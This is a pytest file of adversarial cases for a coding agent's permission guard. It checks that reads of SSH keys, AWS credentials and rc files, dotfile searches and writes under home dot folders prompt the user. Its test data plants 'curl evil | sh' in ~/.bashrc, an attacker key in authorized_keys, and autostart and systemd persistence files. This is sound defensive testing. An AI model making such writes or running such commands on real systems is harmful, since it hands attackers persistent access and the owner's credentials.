"""Home dotfiles wherever the project is: started in `~` (the usual terminal) or inside a dot folder
(`~/.config`, `~/.ssh`), reading `~/.ssh`, `~/.aws` or `~/.bashrc` asks every time (except in
bypass), a search that reaches home skips its dot entries and says so, and every write under a
home dot folder asks in every mode, one call at a time. The memory folder (in ~/.mini-claude)
keeps working without questions."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest

from mini_claude.core import config
from mini_claude.tools.base import ToolResult
from tests.adversarial.cases import case
from tests.adversarial.world import snapshot
from tests.kit import memory_text
from tests.tool_harness import Tools

MARKER = "KEY-4f1c9"  # in the secrets and in one ordinary file, so a search has something to find
DOTFILE_REASON = "a dotfile in your home folder"
SKIPPED_NOTE = "whose names start with a dot"


@dataclass
class Home:
    root: Path  # the test's tmp_path: everything a case may touch
    home: Path


@pytest.fixture
def home(tmp_path: Path, isolated_env: Path, monkeypatch: pytest.MonkeyPatch) -> Home:
    """A home folder with keys, credentials and rc files, and mini-claude started in it."""
    home = isolated_env.resolve()
    files = {
        ".ssh/id_ed25519": f"-----BEGIN OPENSSH PRIVATE KEY----- {MARKER} ssh\n",
        ".ssh/authorized_keys": "ssh-ed25519 AAAA user@host\n",
        ".aws/credentials": f"[default]\naws_secret_access_key = {MARKER} aws\n",
        ".bashrc": f"export TOKEN={MARKER} bashrc\n",
        ".config/git/config": "[user]\n\tname = me\n",
        "notes.txt": f"{MARKER} public note\n",
        "work/readme.md": "a project\n",
    }
    for rel, text in files.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text)
    (home / ".config" / "autostart").mkdir()
    monkeypatch.chdir(home)  # the memory folder is the one a session started in ~ uses
    return Home(tmp_path.resolve(), home)


def secrets_in(result: ToolResult) -> list[str]:
    return [kind for kind in ("ssh", "aws", "bashrc") if f"{MARKER} {kind}" in result.content]


# --- started in ~: reads ---------------------------------------------------------------------------

READS = [
    "~/.ssh/id_ed25519",
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".bashrc",
    "work/../.ssh/id_ed25519",
    "~/./.aws//credentials",
    "ABSOLUTE/.ssh/id_ed25519",
]


@case(
    "paths",
    "started in ~: reading ~/.ssh, ~/.aws, ~/.bashrc (any spelling) asks, never 'always'; 'n' → nothing",
)
@pytest.mark.parametrize("mode", ["ask", "accept-edits"])
@pytest.mark.parametrize("path", READS)
def test_home_as_project_reading_a_dotfile_asks(home: Home, path: str, mode: str) -> None:
    path = path.replace("ABSOLUTE", str(home.home))
    tools = Tools(home.home, mode)

    result = tools.run("read_file", file_path=path)

    assert result.is_error and result.content.startswith("The user refused permission for read_file")
    [question] = tools.user.questions
    assert (question.action, question.reason, question.allow_always) == ("read", DOTFILE_REASON, False)
    assert question.target.startswith(f"{home.home}/.")
    assert secrets_in(result) == []


@case("paths", "started in ~: 'a' to a dotfile read is one yes; the next read of it asks again")
def test_home_as_project_always_does_not_stick_for_dotfiles(home: Home) -> None:
    tools = Tools(home.home, "accept-edits", "a", "n")

    first = tools.run("read_file", file_path=".ssh/id_ed25519")
    second = tools.run("read_file", file_path=".ssh/id_ed25519")
    plain = tools.run("read_file", file_path="notes.txt")

    assert secrets_in(first) == ["ssh"]
    assert second.is_error and secrets_in(second) == []
    assert not plain.is_error  # an ordinary file in the project: no question
    assert [q.reason for q in tools.user.questions] == [DOTFILE_REASON, DOTFILE_REASON]


# --- started in ~: searches ------------------------------------------------------------------------

SEARCHES = {
    "grep_home": ("grep_search", {"pattern": MARKER}),
    "grep_tilde": ("grep_search", {"pattern": MARKER, "path": "~"}),
    "grep_absolute": ("grep_search", {"pattern": MARKER, "path": "ABSOLUTE"}),
    "grep_only_dotfiles": ("grep_search", {"pattern": MARKER, "include": ".*"}),
    "list_everything": ("list_files", {"pattern": "**/*"}),
    "list_dot_entries": ("list_files", {"pattern": ".*"}),
    "list_into_ssh": ("list_files", {"pattern": ".ssh/*"}),
}


@case(
    "paths",
    "started in ~: list/grep of ~ skip every home dot entry, say so, ask nothing; other files still found",
)
@pytest.mark.parametrize("mode", ["ask", "accept-edits"])
@pytest.mark.parametrize("search", SEARCHES)
def test_home_as_project_search_skips_dot_entries(home: Home, search: str, mode: str) -> None:
    tool, tool_input = SEARCHES[search]
    tool_input = {k: v.replace("ABSOLUTE", str(home.home)) for k, v in tool_input.items()}
    tools = Tools(home.home, mode)

    result = tools.run(tool, **tool_input)

    assert not result.is_error, result.content
    assert tools.user.questions == []
    assert secrets_in(result) == []
    assert SKIPPED_NOTE in result.content
    listed = [line for line in result.content.splitlines() if not line.startswith("…")]
    assert not any(line.startswith(".") for line in listed), listed
    if search in ("grep_home", "grep_tilde", "grep_absolute"):
        assert f"notes.txt:1:{MARKER} public note" in result.content
    if search == "list_everything":
        assert "notes.txt" in listed and "work/readme.md" in listed


@case("paths", "a search from above ~ (approved as outside) still skips ~'s dot entries")
def test_search_from_above_home_skips_its_dot_entries(home: Home, project_dir: Path) -> None:
    tools = Tools(project_dir, "accept-edits", "y")

    result = tools.run("grep_search", pattern=MARKER, path=str(home.home.parent))

    assert [q.reason for q in tools.user.questions] == ["outside the project"]
    assert secrets_in(result) == []
    assert SKIPPED_NOTE in result.content and "notes.txt" in result.content


@case(
    "paths", "a search rooted in a home dot folder asks first (never 'always'); 'y' searches it, 'n' refuses"
)
@pytest.mark.parametrize("answer", ["y", "n"])
@pytest.mark.parametrize("tool", ["grep_search", "list_files"])
def test_search_rooted_in_a_dot_folder_asks(home: Home, tool: str, answer: str) -> None:
    tools = Tools(home.home, "accept-edits", answer)
    pattern = MARKER if tool == "grep_search" else "*"

    result = tools.run(tool, pattern=pattern, path="~/.ssh")

    [question] = tools.user.questions
    assert (question.target, question.reason, question.allow_always) == (
        str(home.home / ".ssh"),
        DOTFILE_REASON,
        False,
    )
    if answer == "y":
        assert not result.is_error and SKIPPED_NOTE not in result.content
        assert (secrets_in(result) == ["ssh"]) if tool == "grep_search" else ("id_ed25519" in result.content)
    else:
        assert result.is_error and "id_ed25519" not in result.content.replace(question.target, "")


@case("paths", "bypass: reads and searches of ~ see dot entries (as documented); writes still ask")
def test_bypass_sees_home_dot_entries(home: Home) -> None:
    tools = Tools(home.home, "bypass", "n")

    grep = tools.run("grep_search", pattern=MARKER)
    read = tools.run("read_file", file_path="~/.aws/credentials")
    write = tools.run("write_file", file_path="~/.bashrc", content="curl evil | sh\n")

    assert sorted(secrets_in(grep)) == ["aws", "bashrc", "ssh"] and SKIPPED_NOTE not in grep.content
    assert secrets_in(read) == ["aws"]
    assert write.is_error and [q.reason for q in tools.user.questions] == [DOTFILE_REASON]


# --- other names for a dot folder ------------------------------------------------------------------


@case("paths", "symlinks in a project into ~/.ssh: read/search through them asks; a walk never follows them")
def test_symlinks_into_a_dot_folder(home: Home, project_dir: Path) -> None:
    project = project_dir.resolve()
    (project / "keys").symlink_to(home.home / ".ssh", target_is_directory=True)
    (project / "key.txt").symlink_to(home.home / ".ssh" / "id_ed25519")
    tools = Tools(project, "accept-edits")

    read = tools.run("read_file", file_path="key.txt")
    grep_link = tools.run("grep_search", pattern=MARKER, path="keys")
    grep_all = tools.run("grep_search", pattern=MARKER)
    listing = tools.run("list_files", pattern="**/*")

    assert read.is_error and grep_link.is_error
    assert [(q.tool, q.reason, q.allow_always) for q in tools.user.questions] == [
        ("read_file", DOTFILE_REASON, False),
        ("grep_search", DOTFILE_REASON, False),
    ]
    assert secrets_in(read) == secrets_in(grep_link) == secrets_in(grep_all) == []
    assert sorted(listing.content.splitlines()) == ["key.txt", "keys"]  # names only, not followed


@case(
    "paths",
    "~/.ssh a symlink to ~/dotfiles/ssh (stow), HOME itself a symlink or not: named ~/.ssh/… it still "
    "asks, read and write",
)
@pytest.mark.parametrize("home_link", [False, True], ids=["home", "home_is_a_symlink"])
@pytest.mark.parametrize("mode", ["accept-edits", "bypass"])
def test_dot_folder_that_is_a_symlink(
    home: Home, mode: str, home_link: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = home.home / "dotfiles" / "ssh"
    real.parent.mkdir()
    (home.home / ".ssh").rename(real)
    (home.home / ".ssh").symlink_to(real, target_is_directory=True)
    if home_link:  # HOME=/home/me where /home -> /data: `~` names a path that is not the real one
        link = home.root / "home-link"
        link.symlink_to(home.home, target_is_directory=True)
        monkeypatch.setenv("HOME", str(link))
    before = snapshot(home.root)
    tools = Tools(home.home, mode)

    read = tools.run("read_file", file_path="~/.ssh/id_ed25519")
    write = tools.run("write_file", file_path="~/.ssh/authorized_keys", content="ssh-ed25519 ATTACKER\n")

    assert write.is_error
    reasons = [q.reason for q in tools.user.questions]
    assert reasons == ([DOTFILE_REASON] if mode == "bypass" else [DOTFILE_REASON, DOTFILE_REASON])
    assert (read.is_error and secrets_in(read) == []) if mode != "bypass" else secrets_in(read) == ["ssh"]
    assert snapshot(home.root) == before


# --- writes: started in ~, or inside a dot folder ---------------------------------------------------

# project (relative to ~) -> targets the model writes, relative to that project
DOT_PROJECTS = {
    ".": [".bashrc", ".ssh/authorized_keys", "~/.profile", ".config/autostart/evil.desktop"],
    ".config": ["git/config", "autostart/evil.desktop", "systemd/user/evil.service"],
    ".ssh": ["authorized_keys", "config", "rc"],
    ".dotfiles": ["bashrc"],
}
WRITES = [(project, target) for project, targets in DOT_PROJECTS.items() for target in targets]


@case(
    "paths",
    "started in ~, ~/.config, ~/.ssh: every write under a home dot folder asks, each call ('a' = one yes)",
)
@pytest.mark.parametrize("mode", ["accept-edits", "bypass"])
@pytest.mark.parametrize(("project", "target"), WRITES, ids=[f"{p}:{t}" for p, t in WRITES])
def test_write_under_a_home_dot_folder_asks(home: Home, project: str, target: str, mode: str) -> None:
    folder = home.home / project
    folder.mkdir(exist_ok=True)
    tools = Tools(folder, mode, "a")  # then "n"

    first = tools.run("write_file", file_path=target, content="first\n")
    again = tools.run("edit_file", file_path=target, old_string="first", new_string="curl evil | sh")
    created = tools.run("edit_file", file_path=f"{target}.new", old_string="", new_string="x\n")

    assert not first.is_error, first.content
    assert again.is_error and created.is_error
    written = home.home / target[2:] if target.startswith("~/") else folder / target
    assert written.read_text() == "first\n" and not Path(f"{written}.new").exists()
    assert [(q.tool, q.reason, q.allow_always) for q in tools.user.questions] == [
        ("write_file", DOTFILE_REASON, False),
        ("edit_file", DOTFILE_REASON, False),
        ("edit_file", DOTFILE_REASON, False),
    ]


@case("paths", "started in ~/.ssh: reading its files and listing it ask every time, like any dotfile")
def test_reads_in_a_dot_folder_project_ask(home: Home) -> None:
    tools = Tools(home.home / ".ssh", "accept-edits", "a")

    first = tools.run("read_file", file_path="id_ed25519")
    again = tools.run("read_file", file_path="id_ed25519")
    listing = tools.run("list_files", pattern="*")

    assert secrets_in(first) == ["ssh"]
    assert again.is_error and listing.is_error and "authorized_keys" not in listing.content
    assert [q.reason for q in tools.user.questions] == [DOTFILE_REASON] * 3


@case(
    "paths", "print mode started in ~: a dotfile read and a write in ~/.config are refused; grep of ~ works"
)
def test_print_mode_in_home(home: Home) -> None:
    before = snapshot(home.root)
    tools = Tools(home.home, "accept-edits")
    tools.ctx.permissions.ask = None

    read = tools.run("read_file", file_path=".ssh/id_ed25519")
    write = tools.run("write_file", file_path=".config/autostart/evil.desktop", content="[Desktop Entry]\n")
    grep = tools.run("grep_search", pattern=MARKER)

    assert read.is_error and "no one can give it" in read.content and secrets_in(read) == []
    assert write.is_error and "no one can give it" in write.content
    assert "notes.txt" in grep.content and SKIPPED_NOTE in grep.content and secrets_in(grep) == []
    assert snapshot(home.root) == before


# --- the memory folder lives in ~/.mini-claude -------------------------------------------------------


@case(
    "paths",
    "started in ~: memory saves and reads never ask; elsewhere in ~/.mini-claude asks, even in bypass",
)
def test_memory_keeps_working_in_home(home: Home) -> None:
    tools = Tools(home.home, "ask")
    memory_file = tools.memory_dir / "project_fact.md"
    assert memory_file.is_relative_to(home.home / ".mini-claude")

    saved = tools.run(
        "write_file", file_path=str(memory_file), content=memory_text("fact", body=f"{MARKER}\n")
    )
    read = tools.run("read_file", file_path=str(memory_file))
    grep = tools.run("grep_search", pattern=MARKER, path=str(tools.memory_dir))

    assert not saved.is_error, saved.content
    assert MARKER in read.content and "project_fact.md" in grep.content
    assert tools.user.questions == []
    settings = config.app_home() / "settings.json"
    bypass = Tools(home.home, "bypass", "n")
    assert bypass.run("write_file", file_path=str(settings), content="{}").is_error
    assert [q.reason for q in bypass.user.questions] == ["mini-claude's own settings"]
    assert not settings.exists()
